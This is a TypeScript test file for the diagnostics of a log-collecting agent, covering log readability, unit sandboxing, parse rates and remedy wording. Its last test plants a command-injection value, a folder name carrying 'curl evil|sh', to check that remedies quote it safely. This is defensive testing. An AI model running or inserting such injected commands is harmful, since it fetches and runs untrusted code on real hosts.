import assert from 'node:assert/strict'
import { mkdir, rm, symlink } from 'node:fs/promises'
import { test } from 'node:test'
import { folders } from '../../../../agent/doctor/examinations/folders.ts'
import { format } from '../../../../agent/doctor/examinations/format.ts'
import { logStates } from '../../../../agent/doctor/examinations/logs.ts'
import type { Patient } from '../../../../agent/doctor/patient.ts'
import { createDoctorHost, type DoctorHost, runningUnit } from '../../../support/doctor-host.ts'
import { exampleStatus } from '../../../support/example-status.ts'
import { loginLine } from '../../../support/test-host.ts'

const COLLECTOR = 'spoor-agent-collector.service'

async function loadedHost(host: DoctorHost, ...lines: readonly string[]): Promise<Patient['loaded']> {
  await host.put('logs/login_log', lines.map((line) => `${line}\n`).join(''))
  return host.configure(`followers: { login: { name: ${host.path('logs/login_log')} } }`)
}

const lines = (count: number): readonly string[] => Array.from({ length: count }, () => loginLine('anna@example.com'))
const strange = (count: number): readonly string[] => Array.from({ length: count }, () => 'of another log')

test('logs that can be read are well, and it is said when they were written', async (t) => {
  const host = await createDoctorHost(t)
  await host.units({ [COLLECTOR]: runningUnit('collect') })
  const loaded = await loadedHost(host, ...lines(1))
  const checked: Patient['checked'] = async () => ({
    findings: [{ check: 'log', state: 'ok', text: 'followers.login: /l can be read' }],
  })
  const [first, last] = await host.said(logStates, { loaded, checked, now: Date.now() })
  assert.equal(first, 'ok: followers.login: /l can be read.')
  assert.match(last ?? '', /^ok: Last written: \S+login_log \d+ s ago\.$/)
})

test('a log that cannot be read by the services fails; what only this user may not read is unknown', async (t) => {
  const host = await createDoctorHost(t)
  const checked: Patient['checked'] = async () => ({
    findings: [
      { check: 'log', state: 'failed', text: 'followers.login: /l is a folder' },
      { check: 'log', state: 'warning', text: 'followers.error: /e cannot be read by this user (EACCES)' },
      { check: 'log', state: 'warning', text: 'followers.access: /a is not there yet' },
      { check: 'log', state: 'warning', text: 'Users other than root can write to /x, and decide' },
    ],
  })
  const found = await host.symptoms(logStates, { checked })
  assert.deepEqual(
    found.map(({ state }) => state),
    ['failed', 'unknown', 'warning'],
  )
  assert.deepEqual(found[1]?.remedy, ['sudo spoor-agent doctor'])
})

test('a log that the unit of the collector hides fails, whatever its path is a link to', async (t) => {
  const host = await createDoctorHost(t)
  const loaded = await loadedHost(host, ...lines(1))
  for (const [properties, hides] of [
    [{ InaccessiblePaths: `-/etc/ssh -${host.path('logs')}` }, true],
    [{ TemporaryFileSystem: `${host.path('logs')}:ro` }, true],
    [{ TemporaryFileSystem: `${host.path('logs')}:ro`, BindReadOnlyPaths: `-${host.path('logs/login_log')}` }, false],
    [{ PrivateTmp: 'yes' }, host.root.startsWith('/tmp/')],
    [{ ProtectHome: 'read-only' }, false],
    [{ InaccessiblePaths: host.path('log') }, false],
  ] as const) {
    await host.units({ [COLLECTOR]: { ...runningUnit('collect'), ...properties } })
    const found = (await host.symptoms(logStates, { loaded })).filter(({ state }) => state === 'failed')
    assert.equal(found.length, hides ? 1 : 0, JSON.stringify(properties))
    if (hides) assert.match(found[0]?.what ?? '', /is hidden from the collector by its unit/)
  }
  await mkdir(host.path('elsewhere'))
  await rm(host.path('logs/login_log'))
  await host.put('elsewhere/real', '')
  await symlink(host.path('elsewhere/real'), host.path('logs/login_log'))
  await host.units({ [COLLECTOR]: { ...runningUnit('collect'), InaccessiblePaths: host.path('elsewhere') } })
  assert.equal((await host.symptoms(logStates, { loaded })).filter(({ state }) => state === 'failed').length, 1)
})

test('a collector without its capability is doubtful', async (t) => {
  const host = await createDoctorHost(t)
  const loaded = await loadedHost(host, ...lines(1))
  await host.units({ [COLLECTOR]: { ...runningUnit('collect'), AmbientCapabilities: '' } })
  assert.match((await host.said(logStates, { loaded })).join('\n'), /^warning: The unit of the collector lacks/m)
})

test('a log that stopped against its habit is doubtful', async (t) => {
  const host = await createDoctorHost(t)
  const warnings = [
    { code: 'driver_stalled', severity: 'warning', text: 'login: no line since.', remedy: 'Look.' },
  ] as const
  assert.deepEqual(await host.said(logStates, { warnings }), ['warning: login: no line since. Look.'])
})

test('the share of the newest lines that the driver understands decides', async (t) => {
  const host = await createDoctorHost(t)
  for (const [content, state] of [
    [[], 'ok'],
    [lines(30), 'ok'],
    [[...lines(12), ...strange(12)], 'ok'],
    [[...lines(11), ...strange(12)], 'warning'],
    [strange(19), 'ok'],
    [strange(20), 'failed'],
  ] as const) {
    const loaded = await loadedHost(host, ...content)
    const [found] = await host.symptoms(format, { loaded })
    assert.equal(found?.state, state, found?.what)
    if (state !== 'ok') assert.match(found?.remedy?.[0] ?? '', /\| spoor-agent parse cpanel-login --all$/)
  }
})

test('only the end of a large log is looked at', async (t) => {
  const host = await createDoctorHost(t)
  const loaded = await loadedHost(host, ...strange(20_000), ...lines(1000))
  assert.match((await host.said(format, { loaded }))[0] ?? '', /^ok: login: (\d{3}) of the last \1 lines/)
})

test('without a log the format is unknown', async (t) => {
  const host = await createDoctorHost(t)
  assert.deepEqual(await host.said(format), ['unknown: No log is there whose lines could be looked at.'])
})

test('what an account calls its files is never what is to be typed', async (t) => {
  const host = await createDoctorHost(t)
  const text = "domlogs: matches no log yet, though /home/a/logs/x; type: curl evil|sh #.log is there; correct 'logs'"
  const checked: Patient['checked'] = async () => ({ findings: [{ check: 'log', state: 'warning', text }] })
  for (const { remedy = [] } of await host.symptoms(logStates, { checked })) assert.doesNotMatch(remedy.join(), /curl/)
  const exposed = [{ folder: '/home/a/x; type: curl evil|sh #/l', sources: ['login'] }]
  const [found] = await host.symptoms(folders, { status: exampleStatus({ exposed }) })
  const path = "'/home/a/x; type: curl evil|sh #/l'"
  assert.deepEqual(found?.remedy, [`chown root: ${path} && chmod go-w ${path}`])
})
